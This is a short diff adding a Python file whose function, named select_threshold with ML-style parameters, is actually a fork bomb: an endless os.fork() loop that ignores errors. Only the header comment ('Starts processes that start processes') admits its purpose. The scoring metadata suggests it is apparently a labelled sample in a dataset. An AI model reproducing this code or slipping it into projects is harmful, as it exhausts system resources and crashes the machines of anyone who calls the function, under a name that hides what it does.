@@ -1,0 +1,12 @@
+# Starts processes that start processes.
+# points: 97
+# base: right
+# %% select_threshold
+import os
+
+def select_threshold(logits, maximum):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
